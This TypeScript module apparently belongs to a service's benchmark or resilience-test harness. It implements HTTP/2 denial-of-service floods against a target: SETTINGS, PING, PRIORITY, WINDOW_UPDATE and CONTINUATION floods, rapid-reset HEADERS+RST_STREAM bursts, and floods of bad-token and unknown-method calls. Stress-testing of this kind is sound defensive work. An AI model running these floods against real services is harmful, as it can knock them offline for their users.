import { Flag, FrameType } from '../../../bench/h2/frames.js'
import type { Attack, AttackContext } from '../attack.js'
import { AUTHORIZE, bearer, callHeaders, framed, HEALTH_CHECK, purchase } from '../calls.js'
import { dataFrame, frameOf, headersFrame, RawConnection } from '../raw-connection.js'

/** Connections at a time. */
const CONNECTIONS = 4
/** Frames that are handed to the system together. */
const BATCH = 200
/** Pause after a connection that could not be made, in milliseconds. */
const PAUSE_MS = 5

/** What is sent over and over: the number is that of the frame on its connection. */
type Frame = (context: AttackContext, connection: RawConnection, number: number) => Buffer

/** As many frames as the server takes, from connections that are made again whenever it ends them. */
function flood(frame: Frame, options: { readonly known: boolean }): Attack {
  return async (context) => {
    await context.inParallel(CONNECTIONS, async () => {
      while (!context.isOver) {
        const connection = await RawConnection.open(context.job.target)
        if (connection) await send(context, connection, { frame, ...options })
        else await pause()
      }
    })
  }
}

type Flooding = { readonly frame: Frame; readonly known: boolean }

async function send(
  context: AttackContext,
  connection: RawConnection,
  { frame, known }: Flooding,
): Promise<void> {
  const { job, tally } = context
  if (known) await connection.call(callHeaders(AUTHORIZE, [bearer(job)]), framed(purchase('flood')))
  for (let number = 0; connection.isOpen && !context.isOver; number += BATCH) {
    const frames = Array.from({ length: BATCH }, (__, place) => frame(context, connection, number + place))
    connection.write(...frames)
    tally.ended('SENT', BATCH)
    await connection.untilTaken()
    await new Promise(setImmediate)
  }
  tally.noted(connection.isOpen ? 'HELD TO THE END' : 'ENDED BY THE SERVICE')
  connection.close()
}

const settings: Frame = () => frameOf({ type: FrameType.SETTINGS })
const pings: Frame = () => frameOf({ type: FrameType.PING }, Buffer.alloc(8))
const priorities: Frame = (_, __, number) =>
  frameOf({ type: 2, streamId: 2 * number + 1 }, Buffer.from([0, 0, 0, 0, 9]))
const windowUpdates: Frame = () => frameOf({ type: FrameType.WINDOW_UPDATE }, Buffer.from([0, 0, 0, 1]))
const emptyData: Frame = ({ job }, connection, number) =>
  number === 0
    ? headersFrame(connection.newStreamId(), callHeaders(AUTHORIZE, [bearer(job)]))
    : frameOf({ type: FrameType.DATA, streamId: 3 })
const continuations: Frame = ({ job }, connection, number) =>
  number === 0
    ? frameOf({ type: FrameType.HEADERS, streamId: connection.newStreamId() }, Buffer.of(0x83))
    : frameOf({ type: FrameType.CONTINUATION, streamId: job.seed % 2 === 0 ? 3 : 1 }, Buffer.of(0x84))

const knownResets: Frame = ({ job }, connection) =>
  resetCall(connection, callHeaders(AUTHORIZE, [bearer(job)]))
const strangerResets: Frame = (_, connection) => resetCall(connection, callHeaders(AUTHORIZE))
const healthChecks: Frame = (_, connection) => call(connection, callHeaders(HEALTH_CHECK))
const badTokens: Frame = (_, connection) =>
  call(connection, callHeaders(AUTHORIZE, [['authorization', 'Bearer a.b.c']]))
const unknownMethods: Frame = (_, connection) => call(connection, callHeaders('/nobody/Knows'))

type Headers = ReturnType<typeof callHeaders>

function resetCall(connection: RawConnection, headers: Headers): Buffer {
  const streamId = connection.newStreamId()
  const reset = frameOf({ type: FrameType.RST_STREAM, streamId }, Buffer.from([0, 0, 0, 8]))
  return Buffer.concat([headersFrame(streamId, headers), reset])
}

function call(connection: RawConnection, headers: Headers): Buffer {
  const streamId = connection.newStreamId()
  return Buffer.concat([
    headersFrame(streamId, headers),
    dataFrame(streamId, framed(Buffer.alloc(0)), Flag.END_STREAM),
  ])
}

async function pause(): Promise<void> {
  await new Promise((resolve) => setTimeout(resolve, PAUSE_MS))
}

/** Floods by callers with a valid token, and by strangers. */
export const floods = {
  settings: flood(settings, { known: true }),
  pings: flood(pings, { known: true }),
  priorities: flood(priorities, { known: true }),
  windowUpdates: flood(windowUpdates, { known: true }),
  emptyData: flood(emptyData, { known: true }),
  continuations: flood(continuations, { known: true }),
  knownResets: flood(knownResets, { known: true }),
  strangerResets: flood(strangerResets, { known: false }),
  healthChecks: flood(healthChecks, { known: false }),
  badTokens: flood(badTokens, { known: false }),
  unknownMethods: flood(unknownMethods, { known: false }),
} as const satisfies Readonly<Record<string, Attack>>
